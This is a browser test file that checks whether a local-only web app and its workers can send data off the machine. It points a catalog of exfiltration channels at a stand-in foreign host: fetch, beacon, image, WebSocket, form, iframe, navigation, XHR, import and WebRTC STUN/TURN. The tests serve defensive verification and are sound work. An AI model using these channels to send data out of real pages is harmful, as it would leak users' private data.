// "Your data never leaves your machine" is the promise that people trust this
// page with. These tests play a page, or a worker, that wants to break it: a
// second server stands for somebody else's host, and every way out that a
// browser offers is tried from the inside. What counts is what arrives there.

import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { createServer as createTcpServer } from 'node:net';
import { test } from 'node:test';
import { startBrowser, startSite, visit } from './harness.mjs';

// How long a request on its way gets to arrive. On this machine's loopback the
// positive control below takes a few milliseconds.
const GRACE_MS = 500;

/** A host that would take anything from anybody, and notes all that reaches it, connections included. */
async function startForeignHost(t) {
  const arrivals = [];
  const server = createServer((request, response) => {
    arrivals.push(`${request.method} ${request.url}`);
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.setHeader('Cross-Origin-Resource-Policy', 'cross-origin');
    response.end('ok');
  });
  server.on('upgrade', (request, socket) => {
    arrivals.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  t.after(() => {
    server.closeAllConnections();
    server.close();
  });
  return { url: `http://127.0.0.1:${server.address().port}/`, arrivals };
}

const WAYS_OUT_OF_A_PAGE = {
  fetch: (url) => fetch(url, { method: 'POST', mode: 'no-cors', body: 'row 1' }),
  image: (url) => {
    new Image().src = url;
  },
  beacon: (url) => navigator.sendBeacon(url, 'row 1'),
  socket: (url) => new WebSocket(url.replace('http', 'ws')),
  'event source': (url) => new EventSource(url),
  script: (url) => document.head.append(Object.assign(document.createElement('script'), { src: url })),
  style: (url) => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url })),
  prefetch: (url) => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: url })),
  frame: (url) => document.body.append(Object.assign(document.createElement('iframe'), { src: url })),
  form: (url) => {
    const form = Object.assign(document.createElement('form'), { action: url, method: 'post' });
    document.body.append(form);
    form.submit();
  },
  'new window': (url) => open(url),
  navigation: (url) => {
    location.href = url;
  },
};

const WAYS_OUT_OF_A_WORKER = {
  fetch: (url) => fetch(url, { method: 'POST', mode: 'no-cors', body: 'row 1' }),
  request: (url) => {
    const request = new XMLHttpRequest();
    request.open('POST', url);
    request.send('row 1');
  },
  socket: (url) => new WebSocket(url.replace('http', 'ws')),
  import: (url) => import(url),
  worker: (url) => new Worker(url, { type: 'module' }),
};

test('the foreign host does hear from a page without these headers', async (t) => {
  const foreign = await startForeignHost(t);
  const browser = await startBrowser(t);
  const page = await browser.newPage();
  await page.goto(foreign.url);
  foreign.arrivals.length = 0;
  const elsewhere = await startForeignHost(t);
  await page.evaluate(WAYS_OUT_OF_A_PAGE.fetch, `${elsewhere.url}fetch`);
  await page.waitForTimeout(GRACE_MS);
  assert.deepEqual(elsewhere.arrivals, ['POST /fetch']);
});

for (const [name, way] of Object.entries(WAYS_OUT_OF_A_PAGE)) {
  test(`a page cannot send data by ${name}`, async (t) => {
    const [site, foreign, browser] = [await startSite(t), await startForeignHost(t), await startBrowser(t)];
    const seen = await visit(browser, site.url);
    await seen.page.evaluate(way, `${foreign.url}${encodeURIComponent(name)}`).catch(() => {});
    await browser.pages().at(-1).waitForTimeout(GRACE_MS);
    assert.deepEqual(foreign.arrivals, []);
  });
}

for (const kind of ['worker', 'worker-gpu']) {
  test(`the ${kind} cannot send data`, async (t) => {
    const [site, foreign, browser] = [await startSite(t), await startForeignHost(t), await startBrowser(t)];
    const seen = await visit(browser, site.url);
    const appearing = seen.page.waitForEvent('worker', (worker) => /\/worker-/.test(worker.url()));
    await seen.page.evaluate((name) => {
      const loader = document.querySelector(`meta[name="${name}"]`).content;
      globalThis.workerUnderTest = new Worker(loader, { type: 'module' });
    }, `burnish:${kind}`);
    const worker = await appearing;
    for (const [name, way] of Object.entries(WAYS_OUT_OF_A_WORKER)) {
      await worker.evaluate(way, `${foreign.url}${encodeURIComponent(name)}`).catch(() => {});
    }
    await seen.page.waitForTimeout(GRACE_MS);
    assert.deepEqual(foreign.arrivals, []);
  });
}

test('a page cannot send data by a peer-to-peer connection', async (t) => {
  const [site, foreign, browser] = [await startSite(t), await startForeignHost(t), await startBrowser(t)];
  const relay = await startRelay(t);
  // The control: a page without these headers does reach the relay.
  const unguarded = await browser.newPage();
  await unguarded.goto(foreign.url);
  await unguarded.evaluate(askRelay, relay.servers);
  await unguarded.waitForTimeout(GRACE_MS);
  assert.notDeepEqual(relay.arrivals, []);
  await unguarded.close();

  relay.arrivals.length = 0;
  const seen = await visit(browser, site.url);
  await seen.page.evaluate(askRelay, relay.servers).catch(() => {});
  await seen.page.waitForTimeout(GRACE_MS);
  assert.deepEqual(relay.arrivals, []);
});

/** Where a peer-to-peer connection would ask for its way, over UDP and over TCP. */
async function startRelay(t) {
  const arrivals = [];
  const udp = createSocket('udp4', (message) => arrivals.push(`UDP, ${message.length} bytes`));
  udp.bind(0, '127.0.0.1');
  const tcp = createTcpServer((socket) => {
    arrivals.push('TCP');
    socket.destroy();
  });
  tcp.listen(0, '127.0.0.1');
  await Promise.all([once(udp, 'listening'), once(tcp, 'listening')]);
  t.after(() => {
    udp.close();
    tcp.close();
  });
  const servers = [
    { urls: `stun:127.0.0.1:${udp.address().port}` },
    { urls: `turn:127.0.0.1:${tcp.address().port}?transport=tcp`, username: 'anyone', credential: 'anything' },
  ];
  return { arrivals, servers };
}

async function askRelay(iceServers) {
  globalThis.connection = new RTCPeerConnection({ iceServers });
  globalThis.connection.createDataChannel('rows');
  await globalThis.connection.setLocalDescription(await globalThis.connection.createOffer());
}
